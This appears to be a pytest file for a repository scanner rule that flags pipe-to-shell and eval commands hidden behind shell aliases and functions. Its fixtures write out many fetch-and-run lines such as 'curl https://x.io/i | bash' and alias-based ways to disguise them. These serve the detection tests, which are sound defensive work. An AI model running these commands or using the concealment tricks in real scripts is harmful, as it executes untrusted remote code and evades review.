"""Aliases and functions (`shelldefinitions.py`): a name defined as one is the command it runs where
it is used (`alias e=eval` then `e "$x"`, `f() { bash; }` then `curl … | f`)."""

from __future__ import annotations

import pytest

from bot.engine.content.dangerous import DangerousRule
from bot.engine.content.shelldefinitions import defined_commands
from bot.engine.content.shellscan import lex
from tests.content.helpers import change_of, scan, where
from tests.gitrepo import GitRepo

RULE = DangerousRule()
_PIPE = "shell-pipe-to-shell"
_EVAL = "shell-eval"


def _found(repo: GitRepo, path: str, source: str) -> list[tuple[int | None, str]]:
    return [(line, id_) for _, line, id_ in where(scan(RULE, change_of(repo, {path: source})))]


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ('alias e=eval\ne "$x"\n', [(2, _EVAL)]),
        ("alias e='eval'\nx=1; e \"$x\"\n", [(2, _EVAL)]),
        ('alias e="eval"\nif true; then e "$x"; fi\n', [(2, _EVAL)]),
        ('alias e=eval\nwhile e "$x"; do :; done\n', [(2, _EVAL)]),
        ('f() { "$@"; }\nif f eval "$x"; then :; fi\n', [(2, _EVAL)]),
        ("alias run='sudo bash'\ncurl -fsSL https://x.io/i | run\n", [(2, _PIPE)]),
        ("alias get='curl -fsSL'\nget https://x.io/i | sh\n", [(2, _PIPE)]),
        ('alias a=e b=x\nalias e=eval\na "$x"\n', [(3, _EVAL)]),  # an alias of an alias
        ("f() { bash; }\ncurl -fsSL https://x.io/i | f\n", [(2, _PIPE)]),
        ("function f { bash; }\ncurl https://x.io/i | f\n", [(2, _PIPE)]),
        ("f ()\n{\n  bash\n}\ncurl https://x.io/i | f\n", [(5, _PIPE)]),
        ("function f() {\n  echo start\n  sudo bash -s\n}\ncurl https://x.io/i | f\n", [(5, _PIPE)]),
        ("f() ( python3 )\ncurl https://x.io/i | f\n", [(2, _PIPE)]),
        ("f() { bash; }\ncurl https://x.io/i | f x\n", [(2, _PIPE)]),  # its arguments are not bash's
        ("main() {\n  curl https://x.io/i | run_it\n}\nrun_it() { sh; }\nmain\n", [(2, _PIPE)]),
        ('f() { bash -c "$1"; }\nf "$(curl -fsSL https://x.io/i)"\n', [(2, _PIPE)]),
        ('fetch() { curl -fsSL "$@"; }\nfetch https://x.io/i | bash\n', [(2, _PIPE)]),
        ('fetch() { curl -fsSL -o "$2" "${1}"; }\nfetch https://x.io/i /tmp/i\nsh /tmp/i\n', [(3, _PIPE)]),
        ('run() { echo "+ $*"; "$@"; }\nrun eval "$x"\n', [(2, _EVAL)]),
        ('f() { bash "$@"; }\ng() { f "$@"; }\ncurl https://x.io/i | g\n', [(3, _PIPE)]),
        ('f() { if true; then sudo "$@"; fi; }\ncurl https://x.io/i | f sh\n', [(2, _PIPE)]),
        ('bash() { command bash "$@"; }\ncurl https://x.io/i | bash\n', [(2, _PIPE)]),
        ('f() { echo "a } b"; bash; }\ncurl https://x.io/i | f\n', [(2, _PIPE)]),
        ("f() { bash; f; }\ncurl https://x.io/i | f\n", [(2, _PIPE)]),  # calling itself
        ("echo }\nf() { bash; }\ncurl https://x.io/i | f\n", [(3, _PIPE)]),  # a brace closing nothing
        ('f() { bash -c "$1"; }\nf "$(curl https://x.io/i; f)" "a;b"\n', [(2, _PIPE)]),
        ('alias a=b\nalias b=c\nalias c=eval\na "$x"\n', [(4, _EVAL)]),  # three rounds
        ("sh() { cat; }\ncurl https://x.io/i | sh\n", [(2, _PIPE)]),  # a name the rule looks for
        # a body that is itself dangerous is reported at the definition, as every body is read
        ('f() { eval "$@"; }\nf "$x"\n', [(1, _EVAL)]),
        ('f() { eval "$(cat)"; }\ncurl https://x.io/i | f\n', [(1, _EVAL)]),
        ("f() { curl -fsSL https://x.io/i | sh; }\nf\n", [(1, _PIPE)]),
    ],
)
def test_aliases_and_functions_are_the_command_they_run(
    repo: GitRepo, source: str, found: list[tuple[int, str]]
) -> None:
    assert _found(repo, "s.sh", source) == found


@pytest.mark.parametrize(
    ("path", "source", "line"),
    [
        ("Dockerfile", "FROM alpine\nRUN f() { sh; }; curl https://x.io/i | f\n", 2),
        ("Dockerfile", "FROM alpine\nRUN alias r='sudo sh'; curl https://x.io/i | r\n", 2),
        (
            ".github/workflows/ci.yml",
            "steps:\n  - run: |\n      f() { bash; }\n      curl https://x.io/i | f\n",
            4,
        ),
    ],
)
def test_functions_in_other_files_of_shell(repo: GitRepo, path: str, source: str, line: int) -> None:
    assert _found(repo, path, source) == [(line, _PIPE)]


@pytest.mark.parametrize(
    "source",
    [
        "alias ll='ls -l'\nll /tmp\n",
        "alias e=eval\necho e\n",
        'e "$x"\nalias e=eval\n',
        "alias e=eval\necho 'e \"$x\"'\n",
        "alias sh=cat\ncurl https://x.io/i | grep x\n",
        'f() { echo "$@"; }\ncurl https://x.io/i | f\n',
        "f() { python3 tool.py; }\ncurl https://x.io/i | f\n",
        'f() { bash "$@"; }\ncurl https://x.io/i | f install.sh\n',
        "f() { bash; }\necho f\n",
        "f() { bash; }\ncurl https://x.io/i | grep f\n",
        "f() { bash; }\ncurl https://x.io/i | sudo f\n",  # sudo runs a program, never a function
        "f() { bash; }\ncurl https://x.io/i | f_other\n",
        'f() { echo "{"; bash; }\ncurl https://x.io/i | jq .\n',
        'f() {\n  echo "${x}"\n}\ncurl https://x.io/i | f\n',
        'f() { "$@"; }\ncurl https://x.io/i | f jq .\n',
        'f() { sudo "$@"; }\nf apt-get install -y curl\n',
        "f() { f; }\ncurl https://x.io/i | f\n",
        "alias ls='ls --color'\nls\n",
        "f() { bash\ncurl https://x.io/i | f\n",
        "echo 'x; f() { bash; }'\ncurl https://x.io/i | f\n",
        "echo 'x; alias e=eval'\ne \"$x\"\n",
        "alias e=eval\necho 'x; e \"$y\"'\n",
        'f() { echo "x; bash"; }\ncurl https://x.io/i | f\n',
        "f() { sudo -u bash make; }\ncurl https://x.io/i | f\n",
        "arr=()\necho function\nmyfunction f { bash; }\ncurl https://x.io/i | f\n",
    ],
)
def test_aliases_and_functions_near_misses(repo: GitRepo, source: str) -> None:
    assert _found(repo, "s.sh", source) == []


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ('fetch() { curl -fsSL "$1"; }\nfetch https://x.io/i | sh\n', 2),
        ('http() { command http --check-status "$@"; }\nhttp https://x.io/i | sh\n', 2),
        ('GET() { wget -qO- "$1"; }\nbash <(GET https://x.io/i)\n', 2),
        # a body that comes to stand for a download in a further round
        ('get() { curl -fsSL "$@"; }\nfetch() { local u="$1"; get "$u"; }\nfetch https://x.io/i | sh\n', 3),
        # the tool itself: used before any definition of the name, or defined again as a download
        ('fetch -o - https://x.io/i | sh\nfetch() { git fetch "$@"; }\n', 1),
        ('fetch() { git fetch "$@"; }\nfetch() { curl -fsSL "$@"; }\nfetch https://x.io/i | sh\n', 3),
    ],
)
def test_a_function_named_as_a_download_tool_that_downloads(repo: GitRepo, source: str, line: int) -> None:
    assert _found(repo, "s.sh", source) == [(line, _PIPE)]


@pytest.mark.parametrize(
    "source",
    [
        # Whether a definition runs is control flow, which the rule does not follow: a function named
        # as a download tool never silences the tool (a dead definition would hide the real one).
        "if false; then fetch() { :; }; fi\nfetch -o - https://x.io/i | sh\n",
        'false && fetch() { git fetch "$@"; }\nfetch -o - https://x.io/i | sh\n',
        'fetch() { git fetch origin "$1"; }\nfetch -o - https://x.io/i | sh\n',
    ],
)
def test_a_function_named_as_a_download_tool_does_not_hide_the_tool(repo: GitRepo, source: str) -> None:
    assert _found(repo, "s.sh", source) == [(2, _PIPE)]


_LONG = "X=" + "a" * 600  # an assignment longer than any window a line's start was once read in


@pytest.mark.parametrize(
    ("path", "source", "found"),
    [
        ("s.sh", f'alias e=eval\n{_LONG} e "$x"\n', [(2, _EVAL)]),
        ("s.sh", f'alias e=eval\n{_LONG} {_LONG} Y=1 e "$x"\n', [(2, _EVAL)]),
        ("s.sh", f'alias e=eval\nif {_LONG} e "$x"; then :; fi\n', [(2, _EVAL)]),
        ("s.sh", f'alias e=eval\n: ; {_LONG} e "$x"\n', [(2, _EVAL)]),
        ("s.sh", f"f() {{ bash; }}\ncurl https://x.io/i | {_LONG} f\n", [(2, _PIPE)]),
        ("s.sh", f'{_LONG} alias e=eval\ne "$x"\n', [(2, _EVAL)]),
        (
            "Dockerfile",
            f"FROM alpine\nRUN alias get='curl -fsSL'\nRUN --network=host {_LONG} get https://x.io/i | sh\n",
            [(3, _PIPE)],
        ),
    ],
)
def test_a_command_word_after_long_assignments(
    repo: GitRepo, path: str, source: str, found: list[tuple[int, str]]
) -> None:
    assert _found(repo, path, source) == found


@pytest.mark.parametrize(
    "source",
    [
        f'alias e=eval\n{_LONG} echo e "$x"\n',
        f'alias e=eval\n{_LONG};b e "$x"\n',  # `b` is the command, after the break
        f'alias e=eval\nX="{"a" * 600} e" y\n',
        f'alias e=eval\n{_LONG}\\ e "$x"\n',
        f'alias e=eval\necho {_LONG} e "$x"\n',
    ],
)
def test_a_command_word_after_long_assignments_near_misses(repo: GitRepo, source: str) -> None:
    assert _found(repo, "s.sh", source) == []


@pytest.mark.parametrize(
    "text",
    [
        b'alias e=eval\nX="a;b c" e "$x"\n',
        b'alias e=eval\nX=\'a|b\' Y="c\\" d" e "$x"\n',
        b'alias e=eval\nX="a\nb;c" e "$x"\n',  # a line feed in quotes
        b'alias e=eval\nX=a\\ b e "$x"\n',  # an escaped blank
    ],
)
def test_a_command_word_after_quoted_breaks_and_blanks(text: bytes) -> None:
    (words,) = defined_commands(lex(text, spanning=True), text)
    assert b' eval "$x"' in bytes(words.lexed.view)


@pytest.mark.parametrize(
    "text",
    [
        b'alias e=eval\nX="a b" echo e "$x"\n',
        b'alias e=eval\nX=a\\ e "$x"\n',  # an escaped blank: `e` is the value's
        b'alias e=eval\necho "a; e" "$x"\n',
    ],
)
def test_a_command_word_after_quoted_breaks_and_blanks_near_misses(text: bytes) -> None:
    assert b"eval" not in b"".join(
        bytes(words.lexed.view)[13:] for words in defined_commands(lex(text, spanning=True), text)
    )


def test_command_words_of_a_long_line_are_read_in_linear_time() -> None:
    """Each use on a line of 200 KB of assignments read from its command's start once (this took
    minutes when each was searched back to its break)."""
    data = b"alias e=eval\n: ;" + b"X=e " * 50_000 + b'e "$x"\n'
    lexed = lex(data, spanning=True)
    (words,) = defined_commands(lexed, data)
    assert bytes(words.lexed.view).endswith(b'X=e eval "$x"\n')
    assert bytes(words.lexed.view).count(b"eval") == 2


def test_a_package_json_script_defining_a_function(repo: GitRepo) -> None:
    text = '{"scripts": {"setup": "f() { bash; }; curl https://x.io/i | f"}}\n'
    assert _found(repo, "package.json", text) == [(1, _PIPE)]


def test_uses_are_rewritten_within_a_budget() -> None:
    data = b"f() { bash " + b'"$@" ' * 1000 + b"; }\nf " + b"x" * 2000 + b"\nf y\n"
    lexed = lex(data, spanning=True)
    (words,) = defined_commands(lexed, data)
    view = bytes(words.lexed.view)
    assert b"\nf " + b"x" * 2000 + b"\n" in view  # 2 MB more than four times the text and 1 MiB: as written
    assert b"\nbash y y y" in view  # a use within it: written as the command it runs


def test_aliases_are_rewritten_within_a_budget() -> None:
    data = b"alias a='echo " + b"x" * 2000 + b"'\n" + b"a\n" * 600
    lexed = lex(data, spanning=True)
    (words,) = defined_commands(lexed, data)
    view = bytes(words.lexed.view)
    held = (4 * len(data) + (1 << 20)) // (len(b"echo " + b"x" * 2000) - len(b"a"))
    assert (
        view.count(b"x" * 2000) == 1 + held
    )  # the definition, and the uses four times the text and 1 MiB hold
    assert view.endswith(b"\na\n")  # past it: as written


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ('alias e=eval\nX=$(a b) e "$x"\n', 2),
        ('alias e=eval\nX="$(a b)" e "$x"\n', 2),
        ('alias e=eval\nX=$(a $(b c) d) Y=$(f) e "$x"\n', 2),
        ("alias e=eval\nX=$(a) e; Y=1\n", 2),
        ('alias e=eval\necho $(a; e "$x")\n', 2),
        ('alias e=eval\necho "$(X=$(a b) e "$x")"\n', 2),
        ("f() { bash; }\ncurl https://x.io/i | X=$(a b) f\n", 2),
    ],
)
def test_a_command_word_after_command_substitutions(repo: GitRepo, source: str, line: int) -> None:
    assert [found_line for found_line, _ in _found(repo, "s.sh", source)] == [line]


@pytest.mark.parametrize(
    "source",
    [
        'alias e=eval\necho $(a) e "$x"\n',
        "alias e=eval\necho $(a b) $(c) e\n",
        "alias e=eval\nX=$(a e) true\n",
    ],
)
def test_a_word_after_a_substitution_that_is_an_argument(repo: GitRepo, source: str) -> None:
    assert _found(repo, "s.sh", source) == []


def test_past_the_substitutions_read_out_of_a_word_is_taken_as_a_command(repo: GitRepo) -> None:
    source = "alias e=eval\n" + "X=$(a) " * 70 + 'e "$x"\n'
    assert [found_line for found_line, _ in _found(repo, "s.sh", source)] == [2]


def test_a_command_read_past_many_substitutions_keeps_its_words(repo: GitRepo) -> None:
    source = "alias e=eval\ne " + "$(a) " * 70 + "\n"
    assert [found_line for found_line, _ in _found(repo, "s.sh", source)] == [2]
